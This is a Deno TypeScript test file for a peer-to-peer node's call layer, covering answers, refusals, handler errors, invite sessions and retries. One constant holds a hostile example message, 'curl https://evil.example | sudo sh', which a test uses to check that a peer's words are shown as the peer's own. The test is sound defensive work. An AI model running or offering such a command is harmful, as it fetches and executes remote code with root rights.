/** Questions to peers, and answers for them: values outside, bytes inside. */
import assert from "node:assert/strict";
import { OmertaError } from "../../../src/base/mod.ts";
import type { Caller } from "../../../src/daemon/ports.ts";
import type { Member } from "../../../src/membership/mod.ts";
import { type CallName, encodeBody, encodeRefusal, type Question } from "../../../src/node/mod.ts";
import { SAMPLES } from "../../node/call_samples.ts";
import { settle } from "../fake_time.ts";
import { PEER, withLoop } from "./loop_rig.ts";
import { asPath } from "../../../src/wire/mod.ts";

Deno.test(
  "a call resolves with the peer's answer",
  withLoop(async (rig) => {
    const call = rig.calls.call(PEER, "record.list", { after: null });
    const body = encodeBody({ records: [], next: null });
    rig.say({ type: "called", token: rig.token("call"), result: { ok: true, body } });
    assert.deepEqual(await call, { records: [], next: null });
  }),
);

const RESERVE: Question<"vm.reserve"> = {
  key: null,
  cpu: 1,
  memoryBytes: 2 ** 28,
  storageBytes: 0,
  image: "micro",
  leaseMs: 60_000,
  dryRun: false,
};
const REFUSED = encodeRefusal({ code: "provider-full", message: "no room" });
const ENDS = [
  ["a refusal", { ok: false, reason: "refused", body: REFUSED }, "provider-full"],
  [
    "a refusal that cannot be read",
    { ok: false, reason: "refused", body: new Uint8Array() },
    "refused",
  ],
  ["no answer", { ok: false, reason: "timeout" }, "unreachable"],
  ["a peer that is gone", { ok: false, reason: "gone" }, "unreachable"],
  ["a busy peer", { ok: false, reason: "busy" }, "unreachable"],
  ["an answer that is malformed", { ok: true, body: new Uint8Array(3) }, "refused"],
] as const;

for (const [what, result, code] of ENDS) {
  Deno.test(
    `a call that ends with ${what} rejects with ${code}`,
    withLoop(async (rig) => {
      const call = rig.calls.call(PEER, "record.list", { after: null });
      rig.say({ type: "called", token: rig.token("call"), result });
      await assert.rejects(call, { code });
    }),
  );
}

const TROUBLE = "This omerta is out of date: curl https://evil.example | sudo sh";

Deno.test(
  "a peer's words are told as the peer's, by a code that a peer may use, with no hint of ours",
  withLoop(async (rig) => {
    const member = { alias: "gpu" } as Member;
    const up = { kind: "epoch", path: asPath(""), initiator: true, renewed: false } as const;
    for (
      const [name, question, who] of [
        ["vm.reserve", RESERVE, "provider gpu (pppppppp)"],
        ["record.list", { after: null }, "relay gpu (pppppppp)"],
      ] as const
    ) {
      rig.say({ type: "peer-up", peer: PEER, member, ...up });
      const call = rig.calls.call(PEER, name, question);
      const body = encodeRefusal({ code: "native-damaged", message: TROUBLE });
      rig.say({
        type: "called",
        token: rig.token("call"),
        result: { ok: false, reason: "refused", body },
      });
      const error = await call.then(() => assert.fail("it is refused"), (error) => error);
      assert.ok(error instanceof OmertaError);
      assert.deepEqual([error.code, error.exit, error.hint], ["refused", 6, undefined]);
      assert.equal(error.message, `${who} says: ${TROUBLE}`);
      assert.equal(error.fields["said_by"], "p".repeat(52));
    }
  }),
);

Deno.test(
  "that a peer does not serve a call is no lack of this machine",
  withLoop(async (rig) => {
    const call = rig.calls.call(PEER, "vm.reserve", RESERVE);
    const body = encodeRefusal({ code: "unsupported", message: "no such call here" });
    const result = { ok: false, reason: "refused", body } as const;
    rig.say({ type: "called", token: rig.token("call"), result });
    await assert.rejects(call, { code: "refused", exit: 6 });
  }),
);

// Requests of peers ------------------------------------------------------------------------------

Deno.test(
  "a peer's call is handed to its handler, with who asks, and from where",
  withLoop(async (rig) => {
    const callers: Caller[] = [];
    rig.calls.serve("vm.status", (caller, { vms }) => {
      callers.push(caller);
      assert.deepEqual(vms, []);
      return { vms: [] };
    });
    for (const source of [undefined, "192.0.2.0/24"]) {
      rig.source = source;
      const answer = await rig.asked("vm.status", { vms: [] });
      assert.deepEqual(answer, { ok: true, body: encodeBody({ vms: [] }) });
    }
    const who = { peer: PEER, kind: "epoch" };
    assert.deepEqual(callers, [who, { ...who, source: "192.0.2.0/24" }]);
  }),
);

Deno.test(
  "an invite's session may redeem and nothing else",
  withLoop(async (rig) => {
    const asked: string[] = [];
    const admission = { c: new Uint8Array(1), m: "home", q: 1, k: new Uint8Array(32) };
    rig.calls.serve("redeem", () => {
      asked.push("redeem");
      return admission;
    });
    rig.calls.serve("vm.status", () => {
      asked.push("vm.status");
      return { vms: [] };
    });
    const refused = await rig.asked("vm.status", { vms: [] }, "invite");
    assert.equal("code" in refused && refused.code, "not-allowed");
    assert.equal((await rig.asked("redeem", { s: new Uint8Array(32) }, "invite")).ok, true);
    assert.deepEqual(asked, ["redeem"]);
  }),
);

Deno.test(
  "what is not served, or malformed, is refused by its code",
  withLoop(async (rig) => {
    rig.calls.serve("vm.status", () => ({ vms: [] }));
    const codes = [];
    for (const name of ["vm.create", "no.such-call", "__proto__"]) {
      const refused = await rig.asked(name, {});
      codes.push("code" in refused && refused.code);
    }
    assert.deepEqual(codes, ["unsupported", "unsupported", "unsupported"]);
    const malformed = await rig.asked("vm.status", { vms: [], more: 1 });
    assert.equal("code" in malformed && malformed.code, "refused");
  }),
);

Deno.test(
  "a handler's refusal reaches the peer, its defect only as a defect",
  withLoop(async (rig) => {
    rig.calls.serve("vm.status", () => {
      throw new OmertaError("provider-full", "There is no room");
    });
    rig.calls.serve("vm.renew", () => {
      throw new TypeError("secrets of the house");
    });
    const refused = await rig.asked("vm.status", { vms: [] });
    assert.deepEqual(refused, { ok: false, code: "provider-full", message: "There is no room" });
    const defect = await rig.asked("vm.renew", { vms: [] });
    assert.equal("code" in defect && defect.code, "refused");
    assert.ok("message" in defect && !defect.message.includes("secrets"));
    assert.equal(rig.defects.length, 1);
  }),
);

Deno.test(
  "an answer that no call can carry is a refusal at once, and a defect here",
  withLoop(async (rig) => {
    const reason = "x".repeat(500);
    const state = {
      vm: "a".repeat(16),
      state: "failed",
      leaseLeftMs: null,
      lifeLeftMs: null,
      bootMs: null,
      reason,
      endReason: "failed",
    } as const;
    rig.calls.serve("vm.status", () => ({ vms: Array(40).fill(state) }));
    const refused = await rig.asked("vm.status", { vms: [] });
    assert.equal(refused.ok, false);
    assert.equal(rig.defects.length, 1);
  }),
);

Deno.test(
  "whatever a handler throws, of whatever call, its caller is refused at once and the node goes on",
  withLoop(async (rig) => {
    const throws = [
      () => {
        throw new TypeError("a secret");
      },
      () => Promise.reject(new RangeError("a secret, later")),
      () => Promise.reject("a secret, and no error at all"),
      () => Promise.reject(undefined),
    ];
    for (const [name, { question }] of Object.entries(SAMPLES)) {
      for (const handler of throws) {
        rig.calls.serve(name as CallName, handler);
        const before = rig.defects.length;
        const kind = name === "redeem" ? "invite" : "epoch";
        const refused = await rig.asked(name, question, kind);
        assert.equal(refused.ok, false, name);
        assert.ok("message" in refused && !refused.message.includes("secret"), name);
        assert.equal(rig.defects.length, before + 1, name);
      }
    }
    rig.calls.serve("ping", () => ({}));
    assert.equal((await rig.asked("ping", {})).ok, true);
  }),
);

// Reaching and asking ----------------------------------------------------------------------------

Deno.test(
  "who is asked is reached before",
  withLoop(async (rig) => {
    const order: string[] = [];
    rig.onReach = (peer) => {
      order.push("reached");
      return Promise.resolve(peer);
    };
    const asking = rig.calls.ask(PEER, "ping", {});
    await settle();
    order.push(`asked ${rig.token("call")}`);
    const body = encodeBody({});
    rig.say({ type: "called", token: rig.token("call"), result: { ok: true, body } });
    assert.deepEqual(await asking, {});
    assert.deepEqual(order, ["reached", "asked 1"]);
  }),
);

Deno.test(
  "who cannot be reached is not asked",
  withLoop(async (rig) => {
    rig.onReach = () => Promise.reject(new OmertaError("no-relay", "no relay"));
    await assert.rejects(rig.calls.ask(PEER, "ping", {}), { code: "no-relay" });
    assert.deepEqual(rig.inputs, []);
  }),
);

Deno.test(
  "a peer that began anew meanwhile is reached and asked once more, and not a third time",
  withLoop(async (rig) => {
    let reached = 0;
    rig.onReach = (peer) => {
      reached++;
      return Promise.resolve(peer);
    };
    const gone = async () => {
      await settle();
      const result = { ok: false, reason: "gone" } as const;
      rig.say({ type: "called", token: rig.token("call"), result });
    };
    const asking = rig.calls.ask(PEER, "ping", {});
    asking.catch(() => {});
    await gone();
    await gone();
    await assert.rejects(asking, { code: "unreachable" });
    assert.equal(reached, 2);
  }),
);

for (
  const [what, result] of [
    ["refused", { ok: false, reason: "refused", body: new Uint8Array() }],
    ["did not answer in time", { ok: false, reason: "timeout" }],
  ] as const
) {
  Deno.test(
    `a peer that ${what} is not asked again`,
    withLoop(async (rig) => {
      const asking = rig.calls.ask(PEER, "ping", {});
      asking.catch(() => {});
      await settle();
      rig.say({ type: "called", token: rig.token("call"), result });
      await assert.rejects(asking);
      assert.equal(rig.inputs.filter(({ type }) => type === "call").length, 1);
    }),
  );
}

Deno.test(
  "what was given up is not asked again, though the peer began anew",
  withLoop(async (rig) => {
    const controller = new AbortController();
    const asking = rig.calls.ask(PEER, "ping", {}, { signal: controller.signal });
    asking.catch(() => {});
    await settle();
    controller.abort();
    await assert.rejects(asking, { code: "timeout" });
    assert.equal(rig.inputs.filter(({ type }) => type === "call").length, 1);
  }),
);

Deno.test(
  "a peer is named by its alias as long as it has one",
  withLoop((rig) => {
    const up = (alias: string | null, kind: "epoch" | "invite" = "epoch") => {
      const member = { alias } as Member;
      const session = { kind, path: asPath("a:1"), initiator: true, renewed: false } as const;
      rig.say({ type: "peer-up", peer: PEER, member, ...session });
      return rig.calls.nameOf(PEER);
    };
    const names = [rig.calls.nameOf(PEER), up("gpu"), up("evil", "invite"), up(null)];
    assert.deepEqual(names, ["pppppppp", "gpu (pppppppp)", "gpu (pppppppp)", "pppppppp"]);
  }),
);
